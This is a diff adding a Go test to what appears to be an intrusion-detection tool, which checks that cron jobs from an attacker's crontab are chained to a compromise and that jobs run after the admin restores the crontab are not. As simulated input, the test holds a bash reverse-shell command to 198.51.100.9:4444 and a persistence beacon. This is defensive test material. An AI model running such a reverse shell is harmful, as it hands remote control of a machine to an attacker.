@@ -264,6 +264,33 @@ func TestCronLink(t *testing.T) {
 	}
 }
 
+// A cron job runs the crontab in force when it starts: once the admin has
+// replaced www-data's crontab, later jobs are no longer the attacker's.
+func TestCronLinkNewestInstall(t *testing.T) {
+	s := newSim(t, Options{})
+	s.webServer()
+	root := shellOf(200, worker1, "/var/www/html/uploads")
+	rev := s.find(s.exec(10, root, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+	ct := child(230, root)
+	s.find(s.exec(20, ct, "crontab", "-"), detect.StagePersistence, detect.SeverityHigh, "Crontab Installed")
+	s.touch(60, child(249, cronD))
+	before := s.find(s.exec(60.2, who{pid: 250, ppid: 249, uid: 33, auid: parser.NewID(33), ses: parser.NewID(21)}, "sh", "-c", "/tmp/.k"), detect.StageCommandAndControl, detect.SeverityHigh, "Cron Beacon")
+	// the admin restores www-data's crontab from a backup
+	s.exec(100, who{pid: 300, ppid: 1, uid: 0, user: "root"}, "crontab", "-u", "www-data", "/root/www-data.cron")
+	s.touch(160, child(349, cronD))
+	after := s.find(s.exec(160.2, who{pid: 350, ppid: 349, uid: 33, auid: parser.NewID(33), ses: parser.NewID(22)}, "sh", "-c", "/usr/local/bin/cleanup"), detect.StageCommandExecution, detect.SeverityLow, "Cron Job")
+	r := s.build()
+	c := chainOf(r, rev)
+	if chainOf(r, before) != c {
+		dumpChains(t, r)
+		t.Fatal("the job of the attacker's crontab is not in the chain")
+	}
+	if chainOf(r, after) == c {
+		dumpChains(t, r)
+		t.Fatal("a job run after the admin replaced the crontab joined the chain")
+	}
+}
+
 func TestPeerLink(t *testing.T) {
 	s := newSim(t, Options{})
 	s.webServer()
